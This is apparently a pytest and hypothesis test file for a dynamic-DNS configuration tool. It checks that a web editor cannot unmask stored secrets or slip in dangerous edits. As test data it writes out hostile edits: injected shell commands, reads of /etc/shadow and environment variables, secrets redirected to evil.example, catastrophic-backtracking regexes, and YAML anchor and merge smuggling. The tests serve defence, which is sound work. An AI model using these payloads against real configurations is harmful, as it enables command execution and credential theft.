"""What no page may bring into the file, however it is spelled."""

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from homeport.config import hidden, page_rules
from homeport.config.loader import examine_text
from homeport.config.page_rules import (
    AGAIN,
    ANYWHERE,
    FILE,
    PATTERN,
    PROGRAM,
    REFERENCE,
    SERVER,
    STORED,
    WRITTEN,
)

FILE_TEXT = """\
# token: c0mment-secret
agent:
  addresses:
    wan: {detect: [{kind: http_echo, service: ipify}], witnesses: 1}
    own:
      detect:
        - {kind: command, run: [/bin/my-ip, "-4"]}
        - {kind: file, path: /run/address}
  records:
    - {name: home.example.com, types: [A], address: wan, provider: cf}
    - {name: nas.example.com, types: [A], address: own, provider: pd}
  providers:
    cf:
      kind: cloudflare
      token: l1teral-cf-t0ken    # l1teral-cf-t0ken is the one
    pd: {kind: powerdns, base_url: "https://pdns.example", api_key: "env:PDNS_KEY"}
    duck: {kind: duckdns, token: "secret:duck"}
    tpl: {kind: http, url: "https://up.example/?host={name}&token=wr1tten-0ut"}
  interval: 300
server:
  zones: [{name: dyn.example.com}]
"""
SECRETS = ("c0mment-secret", "l1teral-cf-t0ken", "wr1tten-0ut")


def at(text, tmp_path):
    found = examine_text(text, tmp_path / "homeport.yaml")
    assert found.config is not None, found.faults
    return found


def judge(tmp_path, text, before=FILE_TEXT):
    """Return the sentences against a text as a browser sends it, with what the loader finds."""
    old = at(before, tmp_path)
    back = hidden.returned(old, text)
    if back.faults:
        return {fault.message for fault in back.faults}
    new = examine_text(back.text, tmp_path / "homeport.yaml")
    if new.config is None:
        return {"the loader"}
    return {fault.message for fault in page_rules.faults(old, new, back.restored)}


@pytest.fixture
def shown(tmp_path):
    return hidden.shown(at(FILE_TEXT, tmp_path))


def test_no_secret_is_shown_and_all_come_back(tmp_path, shown):
    """To the byte, comments and all."""
    for secret in SECRETS:
        assert secret not in shown
    assert "# ***" in shown
    assert hidden.returned(at(FILE_TEXT, tmp_path), shown).text == FILE_TEXT
    assert judge(tmp_path, shown) == set()


def test_what_is_harmless_passes(tmp_path, shown):
    """Numbers, records, sources of the network, other hosts' settings."""
    text = shown.replace("interval: 300", "interval: 600").replace("home.example.com", "house.example.com")
    text = text.replace("service: ipify", "service: aws")
    assert judge(tmp_path, text) == set()
    back = hidden.returned(at(FILE_TEXT, tmp_path), text)
    assert "l1teral-cf-t0ken" in back.text
    assert "c0mment-secret" in back.text


ATTACKS = {
    "a command": ("service: ipify}", "service: ipify}, {kind: command, run: [/bin/sh, -c, id]}", {PROGRAM}),
    "another argument": ('"-4"]', '"-6"]', {PROGRAM}),
    "another patience": ('"-4"]}', '"-4"], timeout: 60}', {PROGRAM}),
    "a command in another source": (
        "    own:",
        "    evil: {detect: [{kind: command, run: [/bin/my-ip, '-4']}]}\n    own:",
        {PROGRAM},
    ),
    "a command by merge": (
        "    wan: {detect: [{kind: http_echo, service: ipify}], witnesses: 1}",
        "    wan: {detect: [{<<: {kind: command, run: [/bin/id]}}]}",
        {PROGRAM},
    ),
    "a file": ("/run/address", "/etc/shadow", {FILE}),
    "a state folder": ("interval: 300", "interval: 300\n  state: /etc", {FILE}),
    "a certificate": ("interval: 300", "interval: 300\n  web: {tls: {certificate: /a, key: /b}}", {FILE}),
    "an environment variable": ("secret:duck", "env:HOME", {REFERENCE}),
    "a file's content": ("secret:duck", "file:/etc/shadow", {REFERENCE}),
    "a keyring": ("secret:duck", "keyring:x", {"the loader"}),
    "a vault": ("secret:duck", "vault:x", {"the loader"}),
    "an escaped variable": ("secret:duck", "e\\x6ev:HOME", {REFERENCE}),
    "another stored secret": ("secret:duck", "secret:other", {STORED}),
    "a stored secret to elsewhere": (
        'token: "secret:duck"',
        'token: "secret:duck", base_url: "https://evil.example"',
        {AGAIN},
    ),
    "a stored secret through a proxy": (
        'token: "secret:duck"',
        'token: "secret:duck", proxy: "http://evil.example:1"',
        {AGAIN},
    ),
    "a variable to elsewhere": ("https://pdns.example", "https://evil.example", {AGAIN}),
    "a variable in the clear": ("https://pdns.example", "http://pdns.example", {AGAIN}),
    "a hidden secret to elsewhere": (
        "kind: cloudflare",
        "kind: cloudflare\n      base_url: https://evil.example",
        {AGAIN},
    ),
    "another kind": ("kind: cloudflare", "kind: desec", {hidden.AGAIN}),
    "a stored secret in another provider": (
        "    duck:",
        '    evil: {kind: http, url: "https://evil.example/{token}", token: "secret:duck"}\n    duck:',
        {STORED},
    ),
    "stars in another provider": (
        "    duck:",
        '    evil: {kind: duckdns, token: "***"}\n    duck:',
        {hidden.AGAIN},
    ),
    "a secret written into a template": (
        "    duck:",
        '    tpl2: {kind: http, url: "https://up.example/?token=abcdef"}\n    duck:',
        {WRITTEN},
    ),
    "an endless search of a host's answer": (
        "    duck:",
        '    tpl2: {kind: http, url: "https://up.example/", success: "(a+)+$"}\n    duck:',
        {PATTERN},
    ),
    "an endless search for a refusal": (
        "    duck:",
        '    tpl2: {kind: http, url: "https://up.example/", denied: "a*a*a*a*b"}\n    duck:',
        {PATTERN},
    ),
    "an endless search of an address": (
        "service: ipify}",
        'service: ipify}, {kind: interface, match: "([0-9a-f]+:*)+$"}',
        {PATTERN},
    ),
    "an endless search of a messenger's answer": (
        "interval: 300",
        'interval: 300\n  notify: {a: {kind: webhook, url: "https://x.example", success: "(a|b)*(a|b)*(a|b)*c"}}',
        {PATTERN},
    ),
    "the server's part": ("dyn.example.com", "evil.example.com", {SERVER}),
    "no server's part": ("server:\n  zones: [{name: dyn.example.com}]\n", "", {SERVER}),
    "a tag": ('"secret:duck"', "!!str env:HOME", {"the loader"}),
    "a second key": ("    duck:", '    duck: {kind: duckdns, token: "env:A"}\n    duck:', {"the loader"}),
    "a second document": ("server:", "---\nserver:", {"the loader"}),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_is_refused(tmp_path, shown, name):
    """With the sentence for it."""
    old, new, sentences = ATTACKS[name]
    assert shown.count(old) == 1
    assert judge(tmp_path, shown.replace(old, new)) == sentences


@pytest.mark.parametrize(
    "text",
    [
        # the stars come back by an anchor that another provider uses
        lambda t: t.replace('token: "***"', 'token: &t "***"').replace(
            "    duck:", "    evil: {kind: duckdns, token: *t}\n    duck:"
        ),
        # ... or a text that everybody sees
        lambda t: t.replace('token: "***"', 'token: &t "***"').replace(
            "interval: 300", "interval: 300\n  id: *t"
        ),
        # a comment's stars within a text
        lambda t: t.replace("# ***\nagent:", "agent:").replace(
            "interval: 300", "interval: 300\n  id: |\n    # ***"
        ),
        # the template's hidden URL beside a header that leads elsewhere
        lambda t: t.replace("kind: http, ", "kind: http, headers: {X-Original-Host: evil.example}, "),
        # a variable that comes along in a merge
        lambda t: t.replace("    pd: {", "    pd: &p {").replace(
            "    duck:", "    evil: {<<: *p, base_url: 'https://evil.example'}\n    duck:"
        ),
        # the same command twice
        lambda t: t.replace('"-4"]}', '"-4"]}\n        - {kind: command, run: [/bin/my-ip, "-4"]}'),
        lambda t: t.replace("    pd:", "    renamed:").replace("provider: pd", "provider: renamed"),
        lambda t: t.replace(
            'kind: cloudflare\n      token: "***"',
            "<<: {kind: cloudflare, token: '***'}\n      base_url: 'http://e.x'",
        ),
    ],
    ids=[
        "an anchor",
        "an anchor shown to all",
        "a comment in a block",
        "a header beside a hidden URL",
        "a merged variable",
        "a command twice",
        "a renamed provider",
        "a merge",
    ],
)
def test_what_is_smuggled_is_refused(tmp_path, shown, text):
    """Anchors, merges and blocks lead nowhere else."""
    changed = text(shown)
    assert changed != shown
    assert judge(tmp_path, changed) - {"the loader"}


def test_what_is_typed_is_stored(tmp_path, shown):
    """A new secret for a new host is told by its place, and the file names it instead."""
    old = at(FILE_TEXT, tmp_path)
    text = shown.replace(
        'kind: cloudflare\n      token: "***"',
        "kind: cloudflare\n      base_url: https://my.example\n      token: typed-anew",
    )
    back = hidden.returned(old, text)
    new = at(back.text, tmp_path)
    assert page_rules.faults(old, new, back.restored) == ()
    found = page_rules.typed(old, new, back.restored)
    assert found == {"agent.providers.cf.token": "typed-anew"}
    said = page_rules.stored(back.text, dict.fromkeys(found, "cf-token"))
    assert "token: secret:cf-token" in said
    assert "typed-anew" not in said.replace("# ***", "")


def test_a_resolver_leads_what_no_certificate_guards(tmp_path):
    """A host that is asked in the clear is whom the resolver says that it is."""
    text = """\
agent:
  providers:
    pd: {kind: powerdns, base_url: "http://pdns.example", api_key: "env:PDNS_KEY"}
    duck: {kind: duckdns, token: "secret:duck"}
"""
    assert judge(tmp_path, text + "  resolver: [192.0.2.1]\n", text) == {AGAIN}


def test_a_routers_password_stays_and_is_nobody_elses(tmp_path):
    """It is sent nowhere: its names may change without it; a host's token is not made one."""
    text = """\
agent:
  push: {fritz: {password: "secret:fritz", names: [home.duckdns.org]}}
  addresses: {home: {detect: [{kind: push, from: fritz}]}}
  records:
    - {name: home.duckdns.org, address: home, provider: duck}
    - {name: nas.duckdns.org, address: home, provider: duck}
  providers: {duck: {kind: duckdns, token: "secret:duck"}}
"""
    more = text.replace("[home.duckdns.org]", "[home.duckdns.org, nas.duckdns.org]")
    assert judge(tmp_path, more, before=text) == set()
    assert judge(tmp_path, text.replace("secret:fritz", "secret:duck"), before=text) == {STORED}
    assert judge(tmp_path, text.replace("secret:fritz", "env:HOME"), before=text) == {REFERENCE}


def test_a_host_that_records_name(tmp_path):
    """Where a template sends to the record's own name, another name is another host."""
    text = """\
agent:
  records:
    - {name: home.example.com, types: [A], provider: t}
  providers:
    t: {kind: http, url: "https://{name}/update?key={token}", token: "secret:t"}
"""
    assert judge(tmp_path, text.replace("home.", "evil."), text) == {AGAIN}
    assert judge(tmp_path, text + "  interval: 600\n", text) == set()


@st.composite
def spelled(draw, word):
    """Return a word as YAML may spell it."""
    escaped = "".join(f"\\x{ord(letter):02x}" if draw(st.booleans()) else letter for letter in word)
    return draw(st.sampled_from([f"'{word}'", f'"{word}"', f'"{escaped}"', f'! "{escaped}"']))


@st.composite
def mappings(draw, entries):
    """Return a mapping as YAML may spell it: in any order, some of it brought in by merges."""
    pairs = [
        f"{draw(spelled(key))}: {draw(value) if not isinstance(value, str) else value}"
        for key, value in entries
    ]
    pairs = draw(st.permutations(pairs))
    cut = draw(st.integers(0, len(pairs)))
    merged = ", ".join(pairs[cut:])
    return "{" + ", ".join([*pairs[:cut], *([f"<<: {{{merged}}}"] if merged else [])]) + "}"


@settings(deadline=None, max_examples=12, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(mappings([("kind", spelled("command")), ("run", "['/bin/id']"), ("timeout", "3")]))
def test_no_spelling_of_a_program_passes(tmp_path, text):
    """Quotes, escapes, merges and the order of keys are nothing to the rules."""
    shown = hidden.shown(at(FILE_TEXT, tmp_path))
    assert judge(
        tmp_path,
        shown.replace("{kind: http_echo, service: ipify}", f"{{kind: http_echo, service: ipify}}, {text}"),
    ) == {PROGRAM}


@settings(deadline=None, max_examples=12, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.sampled_from(["env:HOME", "file:/etc/shadow", "keyring:a", "vault:a", "secret:other"]).flatmap(
        lambda reference: mappings([("kind", spelled("duckdns")), ("token", spelled(reference))])
    )
)
def test_no_spelling_of_a_reference_passes(tmp_path, text):
    """In a new provider as in one that was there."""
    shown = hidden.shown(at(FILE_TEXT, tmp_path))
    for before in ('{kind: duckdns, token: "secret:duck"}', None):
        changed = (
            shown.replace(before, text)
            if before
            else shown.replace("    duck:", f"    new: {text}\n    duck:")
        )
        assert judge(tmp_path, changed) & {REFERENCE, STORED, "the loader"}


@settings(deadline=None, max_examples=12, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.data())
def test_whatever_is_sent_no_secret_moves(tmp_path, data):
    """Lines are dropped, doubled and exchanged: what passes has each secret where it was, and sent where it was."""
    old = at(FILE_TEXT, tmp_path)
    lines = hidden.shown(old).splitlines()
    for _ in range(data.draw(st.integers(1, 3))):
        one, other = (data.draw(st.integers(0, len(lines) - 1)) for _ in range(2))
        match data.draw(st.sampled_from(["drop", "double", "swap"])):
            case "drop" if len(lines) > 1:
                del lines[one]
            case "double":
                lines.insert(other, lines[one])
            case _:
                lines[one], lines[other] = lines[other], lines[one]
    back = hidden.returned(old, "\n".join(lines) + "\n")
    new = examine_text(back.text, tmp_path / "homeport.yaml")
    if back.faults or new.config is None or page_rules.faults(old, new, back.restored):
        return
    before, after = old.config.agent.providers, new.config.agent.providers if new.config.agent else {}
    for name, settings_now in after.items():
        assert (before[name].base_url, type(before[name])) == (settings_now.base_url, type(settings_now))
    shown = hidden.shown(new)
    assert not any(secret in shown for secret in SECRETS[1:])


NOTIFY_TEXT = """\
agent:
  notify:
    phone: {kind: webhook, preset: gotify, url: "https://gotify.example", token: "secret:gotify"}
    group: {kind: webhook, preset: dingtalk, url: "https://oapi.dingtalk.com/robot/send?access_token=l1teral-ding"}
    own: {kind: webhook, url: "secret:own", body: '{"key": "wr1tten-b0dy"}', headers: {Authorization: "Bearer wr1tten-h3ad"}}
    mail: {kind: smtp, server: smtp.example.com, user: me, password: "secret:mail", sender: a@b.example, to: [c@d.example]}
    far: {kind: webhook, preset: slack, url: "secret:far", anywhere: true}
  resolver: [192.0.2.53]
"""
NOTIFY_SECRETS = ("l1teral-ding", "wr1tten-b0dy", "wr1tten-h3ad")
NOTIFY_ATTACKS = {
    "another kind": (
        "kind: smtp, server: smtp.example.com, user: me, password",
        "kind: smtp, server: x.example, password",
        {AGAIN},
    ),
    "another port": ("user: me", "user: me, port: 26", {AGAIN}),
    "another service": ("preset: gotify", "preset: bark", {AGAIN}),
    "a token in another's URL": (
        "    group:",
        '    evil: {kind: webhook, url: "https://evil.example/{token}", token: "secret:gotify"}\n    group:',
        {STORED},
    ),
    "another resolver": ("192.0.2.53", "192.0.2.66", {AGAIN}),
    "a proxy": ('token: "secret:gotify"', 'token: "secret:gotify", proxy: "http://evil.example:1"', {AGAIN}),
    "a variable": ('"secret:own"', '"env:HOME"', {REFERENCE}),
    "a file": ('"secret:own"', '"file:/etc/shadow"', {REFERENCE}),
    "stars elsewhere": ("    mail:", '    evil: {kind: webhook, url: "***"}\n    mail:', {hidden.AGAIN}),
    "a secret written out": (
        "    mail:",
        "    evil: {kind: webhook, url: 'https://x.example', body: '{\"token\": \"abcdef\"}'}\n    mail:",
        {WRITTEN},
    ),
    "anywhere": ("preset: gotify", "preset: gotify, anywhere: true", {ANYWHERE}),
    "anywhere, to elsewhere": ("preset: slack", "preset: discord", {ANYWHERE, AGAIN}),
    "anywhere, in one more": (
        "    mail:",
        '    evil: {kind: webhook, url: "https://x.example", anywhere: true}\n    mail:',
        {ANYWHERE},
    ),
}


@pytest.mark.parametrize("name", NOTIFY_ATTACKS)
def test_who_is_told_is_no_way_out(tmp_path, name):
    """A secret of one who is told goes where it went, however a page asks for it."""
    shown = hidden.shown(at(NOTIFY_TEXT, tmp_path))
    old, new, sentences = NOTIFY_ATTACKS[name]
    assert shown.count(old) == 1
    assert sentences <= judge(tmp_path, shown.replace(old, new), NOTIFY_TEXT)


def test_what_is_told_is_anybodys_to_change(tmp_path):
    """Of which names, when and in which language; a new one whose secrets are typed, and one that goes."""
    shown = hidden.shown(at(NOTIFY_TEXT, tmp_path))
    for secret in NOTIFY_SECRETS:
        assert secret not in shown
    assert hidden.returned(at(NOTIFY_TEXT, tmp_path), shown).text == NOTIFY_TEXT
    text = shown.replace("preset: gotify", "preset: gotify, when: [failing], language: zh-CN, after: 60")
    text = text.replace("user: me", "user: me, names: [home.example.com]")
    text = text.replace(
        "    mail:", '    new: {kind: webhook, preset: slack, url: "https://hooks.slack.com/x"}\n    mail:'
    )
    assert judge(tmp_path, text, NOTIFY_TEXT) == set()
    less = "".join(line for line in shown.splitlines(keepends=True) if "far:" not in line)
    assert judge(tmp_path, less, NOTIFY_TEXT) == set()
    old, new = at(NOTIFY_TEXT, tmp_path), at(hidden.returned(at(NOTIFY_TEXT, tmp_path), text).text, tmp_path)
    assert page_rules.typed(old, new) == {"agent.notify.new.url": "https://hooks.slack.com/x"}
